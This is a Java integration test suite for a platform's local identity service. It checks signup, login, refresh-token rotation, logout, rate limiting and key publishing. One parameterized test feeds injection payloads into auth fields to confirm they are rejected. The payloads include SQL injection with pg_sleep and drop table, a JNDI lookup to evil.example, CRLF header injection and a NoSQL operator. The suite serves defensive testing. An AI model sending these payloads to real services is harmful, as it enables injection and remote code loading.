package dev.gaia.identity;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.nimbusds.jwt.SignedJWT;
import dev.gaia.Hub;
import dev.gaia.LogLines;
import dev.gaia.database.TestDatabase;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.text.ParseException;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The identity provider on a laptop: its own REST API, and the platform's account operations on top of it. */
class LocalIdentityIT {

    private static final ObjectMapper MAPPER = new ObjectMapper();
    private static final String PASSWORD = "a good p4ssword";

    private static final AtomicInteger count = new AtomicInteger();

    private static TestDatabase database;
    private static Hub hub;

    private LogLines log;

    @BeforeAll
    static void start() {
        database = TestDatabase.migrated();
        hub = Hub.with(Map.of("gaia.database.url", database.url())).start();
    }

    @BeforeEach
    void listen() {
        log = LogLines.begin();
    }

    @AfterEach
    void listenNoMore() {
        log.close();
    }

    @AfterAll
    static void stop() {
        hub.close();
        database.close();
    }

    @Test
    void registersSignsInRefreshesAndEndsTheSessionThroughThePlatform() {
        String email = email();

        var registered = post("/api/v1/auth/register", credentials(email, PASSWORD));
        assertThat(registered.statusCode()).isEqualTo(200);
        assertThat(json(registered).at("/user/email").asText()).isEqualTo(email);
        assertThat(json(registered).at("/user/email_confirmed_at").asText()).isNotBlank();

        var login = post("/api/v1/auth/login", credentials(email.toUpperCase(java.util.Locale.ROOT), PASSWORD));
        assertThat(login.statusCode()).isEqualTo(200);
        String access = json(login).at("/session/access_token").asText();
        assertThat(chatStatus(access).statusCode()).isEqualTo(200);

        var refreshed = post(
                "/api/v1/auth/refresh",
                refresh(json(login).at("/session/refresh_token").asText()));
        assertThat(refreshed.statusCode()).isEqualTo(200);
        String newer = json(refreshed).at("/session/access_token").asText();

        var logout = post("/api/v1/auth/logout", "", "Authorization", "Bearer " + newer);
        assertThat(logout.body()).isEqualTo("{\"message\":\"Logged out successfully\"}");
        assertThat(chatStatus(newer).statusCode()).isEqualTo(401);
        assertThat(chatStatus(access).statusCode()).isEqualTo(401);
        assertThat(refused(post(
                        "/api/v1/auth/refresh",
                        refresh(json(refreshed).at("/session/refresh_token").asText()))))
                .startsWith("Token refresh failed: ");
        assertThat(refused(post("/api/v1/auth/logout", "", "Authorization", "Bearer " + newer)))
                .isEqualTo("Logout failed: Session from session_id claim in JWT does not exist");
    }

    @Test
    void givesTheUserARowOfThePlatformUnderTheSameId() {
        String email = email();
        var user = json(signup(email, PASSWORD)).at("/user/id").asText();

        assertThat(database.value("select email from users where id = '" + user + "'"))
                .isEqualTo(email);
    }

    @Test
    void leavesAddressesThatThePlatformKnowsToTheirUsers() {
        database.execute("insert into users (email) values ('Owner@Example.org')");

        var answer = signup("owner@example.org", PASSWORD);

        assertThat(answer.statusCode()).isEqualTo(422);
        assertThat(json(answer).path("error_code").asText()).isEqualTo("user_already_exists");
    }

    @Test
    void refusesRegistrationsLikeSupabase() {
        String known = email();
        signup(known, PASSWORD);

        assertThat(refused(post("/api/v1/auth/register", credentials(known, PASSWORD))))
                .isEqualTo("This email is already registered");
        assertThat(refused(post("/api/v1/auth/register", credentials(email(), "short"))))
                .isEqualTo("Password must be at least 6 characters long");
        assertThat(refused(post("/api/v1/auth/register", credentials("not an address", PASSWORD))))
                .isEqualTo("Please enter a valid email address");
        assertThat(refused(post("/api/v1/auth/register", credentials(email(), "x".repeat(73)))))
                .isEqualTo("Registration failed: Password cannot be longer than 72 characters");
    }

    @Test
    void tellsWrongPasswordAndUnknownAddressApartByNothing() {
        String known = email();
        signup(known, PASSWORD);

        var wrong = token("password", credentials(known, "another password"));
        var unknown = token("password", credentials(email(), "another password"));

        assertThat(wrong.statusCode()).isEqualTo(400);
        assertThat(wrong.body())
                .isEqualTo(
                        "{\"code\":400,\"error_code\":\"invalid_credentials\",\"msg\":\"Invalid login credentials\"}")
                .isEqualTo(unknown.body());
    }

    @Test
    void boundsGuessesForOneAddress() {
        String known = email();
        signup(known, PASSWORD);
        HttpResponse<String> answer = null;
        for (int i = 0; i < 11; i++) {
            answer = token("password", credentials(known, "guess " + i));
        }

        assertThat(answer.statusCode()).isEqualTo(429);
        assertThat(json(answer).path("error_code").asText()).isEqualTo("over_request_rate_limit");
        assertThat(token("password", credentials(known, PASSWORD)).statusCode()).isEqualTo(429);
        assertThat(refused(post("/api/v1/auth/login", credentials(known, PASSWORD))))
                .isEqualTo("Login failed: Request rate limit reached");
    }

    @Test
    void endsTheSessionWhenAnOldRefreshTokenIsUsedAgain() {
        var first = json(signup(email(), PASSWORD));
        var second =
                json(token("refresh_token", refresh(first.path("refresh_token").asText())));
        var third =
                json(token("refresh_token", refresh(second.path("refresh_token").asText())));
        assertThat(chatStatus(third.path("access_token").asText()).statusCode()).isEqualTo(200);

        var reuse = token("refresh_token", refresh(first.path("refresh_token").asText()));

        assertThat(reuse.statusCode()).isEqualTo(400);
        assertThat(json(reuse).path("error_code").asText()).isEqualTo("refresh_token_already_used");
        assertThat(json(token(
                                "refresh_token",
                                refresh(third.path("refresh_token").asText())))
                        .path("error_code")
                        .asText())
                .isEqualTo("refresh_token_not_found");
        assertThat(chatStatus(third.path("access_token").asText()).statusCode()).isEqualTo(401);
    }

    @Test
    void refusesTokensOfEndedSessionsAlsoAfterARestart() {
        String access = json(signup(email(), PASSWORD)).path("access_token").asText();
        assertThat(hub.send(hub.request("/auth/v1/logout", "Authorization", "Bearer " + access)
                                .POST(HttpRequest.BodyPublishers.noBody())
                                .build())
                        .statusCode())
                .isEqualTo(204);
        String other = json(signup(email(), PASSWORD)).path("access_token").asText();

        try (var restarted =
                Hub.with(Map.of("gaia.database.url", database.url())).start()) {
            assertThat(restarted
                            .get("/api/v1/chat/status", "Authorization", "Bearer " + access)
                            .statusCode())
                    .isEqualTo(401);
            assertThat(restarted
                            .get("/api/v1/chat/status", "Authorization", "Bearer " + other)
                            .statusCode())
                    .isEqualTo(200);
        }
    }

    @Test
    void tellsAndChangesTheUser() {
        var session = json(signup(email(), PASSWORD));
        var otherSession =
                json(token("password", credentials(session.at("/user/email").asText(), PASSWORD)));
        String access = session.path("access_token").asText();

        var changed = hub.send(hub.request("/auth/v1/user", "Authorization", "Bearer " + access)
                .PUT(HttpRequest.BodyPublishers.ofString(
                        "{\"password\":\"another password\",\"data\":{\"name\":\"Ann\"}}"))
                .build());

        assertThat(changed.statusCode()).isEqualTo(200);
        assertThat(json(hub.get("/auth/v1/user", "Authorization", "Bearer " + access))
                        .at("/user_metadata/name")
                        .asText())
                .isEqualTo("Ann");
        assertThat(token(
                                "refresh_token",
                                refresh(otherSession.path("refresh_token").asText()))
                        .statusCode())
                .isEqualTo(400);
        assertThat(token("password", credentials(session.at("/user/email").asText(), "another password"))
                        .statusCode())
                .isEqualTo(200);
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "Bearer sb_publishable_x", "Bearer a.b.c"})
    void refusesUsersItDoesNotKnow(String authorization) {
        var answer = hub.get("/auth/v1/user", "Authorization", authorization);

        assertThat(answer.statusCode()).isIn(401, 403);
        assertThat(json(answer).path("error_code").asText()).isIn("no_authorization", "bad_jwt");
    }

    @Test
    void signsWithAKeyThatItPublishesWithoutItsPrivateHalf() throws ParseException {
        String access = json(signup(email(), PASSWORD)).path("access_token").asText();

        var header = SignedJWT.parse(access).getHeader();
        var published = json(hub.get("/auth/v1/.well-known/jwks.json")).path("keys");

        assertThat(header.getAlgorithm().getName()).isEqualTo("ES256");
        assertThat(published.findValuesAsText("kid")).contains(header.getKeyID());
        assertThat(published.findValues("d")).isEmpty();
    }

    @Test
    void makesAdministratorsOfThoseAnOperatorNames() {
        var user = json(signup(email(), PASSWORD));
        database.execute("update identity.users set app_metadata = app_metadata || '{\"role\":\"admin\"}' where id = '"
                + user.at("/user/id").asText() + "'");

        var session =
                json(token("refresh_token", refresh(user.path("refresh_token").asText())));

        assertThat(session.at("/user/app_metadata/role").asText()).isEqualTo("admin");
        assertThat(claims(session).at("/app_metadata/role").asText()).isEqualTo("admin");
        assertThat(claims(session).at("/user_metadata/role").isMissingNode()).isTrue();
    }

    @Test
    void saysWhoItIs() {
        assertThat(json(hub.get("/auth/v1/settings")).at("/external/email").asBoolean())
                .isTrue();
        assertThat(json(hub.get("/auth/v1/settings")).path("mailer_autoconfirm").asBoolean())
                .isTrue();
        assertThat(json(hub.get("/auth/v1/settings")).path("disable_signup").asBoolean(true))
                .isFalse();
        assertThat(hub.get("/auth/v1/health").statusCode()).isEqualTo(200);
    }

    @Test
    void keepsNothingInTheDatabaseThatOpensAnything() {
        String email = email();
        var session = json(signup(email, PASSWORD));

        String dump = String.join(
                "\n",
                database.column("select u::text from identity.users u union all select s::text from identity.sessions s"
                        + " union all select t::text from identity.refresh_tokens t"
                        + " union all select c::text from identity.confirmations c"
                        + " union all select k::text from identity.signing_keys k"));

        assertThat(dump)
                .contains(email, "{bcrypt}$2a$10$")
                .doesNotContain(PASSWORD)
                .doesNotContain(session.path("refresh_token").asText())
                .doesNotContain(session.path("access_token").asText())
                .doesNotContain("\"d\"");
        var hashes = database.column("select token_hash from identity.refresh_tokens");
        assertThat(hashes).allMatch(hash -> hash.matches("[0-9a-f]{64}"));
        assertThat(token("refresh_token", refresh(hashes.getLast())).statusCode())
                .isEqualTo(400);
        assertThat(token(
                                "password",
                                credentials(
                                        email,
                                        database.value("select password_hash from identity.users where email = '"
                                                + email + "'")))
                        .statusCode())
                .isEqualTo(400);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "' OR pg_sleep(8)--",
                "x'; drop table identity.users; --",
                "${jndi:ldap://evil.example/x} {{env:HOME}} ${sysenv:PATH}",
                "x\r\nSet-Cookie: a=b",
                "\u0000",
                "\\\"},{\\\"$ne\\\":1",
                "\u202e☃"
            })
    void takesStrangeTextsForWhatTheyAre(String text) throws IOException {
        long start = System.nanoTime();
        var body = MAPPER.createObjectNode();
        for (String field : List.of("email", "password", "refresh_token", "token", "token_hash")) {
            body.put(field, text);
        }
        body.put("type", "signup");

        for (String target : List.of(
                "/auth/v1/signup",
                "/auth/v1/token?grant_type=password",
                "/auth/v1/token?grant_type=refresh_token",
                "/auth/v1/verify")) {
            assertThat(post(target, body.toString()).statusCode()).as(target).isBetween(400, 429);
        }
        assertThat(post("/auth/v1/resend", body.toString()).statusCode()).isEqualTo(200);
        assertThat(java.time.Duration.ofNanos(System.nanoTime() - start)).hasSeconds(0);
        assertThat(database.value("select count(*) > 0 from information_schema.tables where table_schema = 'identity'"))
                .isEqualTo("t");
        assertThat(log.text()).doesNotContain("pg_sleep", "drop table", "jndi");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "[]", "nonsense"})
    void refusesBodiesThatAreNoObject(String body) {
        var answer = token("password", body);

        assertThat(answer.statusCode()).isEqualTo(400);
        assertThat(json(answer).path("error_code").asText()).isEqualTo("bad_json");
    }

    @Test
    void saysInTheHealthPageWhoKeepsTheAccounts() {
        try (var service = Hub.with(Map.of("gaia.services", "auth", "gaia.database.url", database.url()))
                .start()) {
            assertThat(json(service.get("/health")).path("identity_provider").asText())
                    .isEqualTo("local");
            assertThat(json(service.get("/status"))
                            .at("/features/user_registration")
                            .asBoolean())
                    .isTrue();
            assertThat(service.get("/auth/v1/health").statusCode()).isEqualTo(200);
        }
    }

    private static String email() {
        return "user-" + count.incrementAndGet() + "@example.com";
    }

    private static String credentials(String email, String password) {
        return MAPPER.createObjectNode()
                .put("email", email)
                .put("password", password)
                .toString();
    }

    private static String refresh(String token) {
        return MAPPER.createObjectNode().put("refresh_token", token).toString();
    }

    private static HttpResponse<String> signup(String email, String password) {
        return post("/auth/v1/signup", credentials(email, password));
    }

    private static HttpResponse<String> token(String grant, String body) {
        return post("/auth/v1/token?grant_type=" + grant, body);
    }

    private static HttpResponse<String> chatStatus(String access) {
        return hub.get("/api/v1/chat/status", "Authorization", "Bearer " + access);
    }

    private static HttpResponse<String> post(String path, String body, String... headers) {
        return hub.post(path, body, headers);
    }

    /** What a client of the platform reads. */
    private static String refused(HttpResponse<String> answer) {
        assertThat(answer.statusCode()).isEqualTo(400);
        String detail = json(answer).path("detail").asText();
        return json(detail.substring("Service error: ".length())).path("detail").asText();
    }

    private static JsonNode claims(JsonNode session) {
        try {
            return json(SignedJWT.parse(session.path("access_token").asText())
                    .getPayload()
                    .toString());
        } catch (ParseException e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static JsonNode json(HttpResponse<String> answer) {
        return json(answer.body());
    }

    private static JsonNode json(String text) {
        try {
            return MAPPER.readTree(text);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
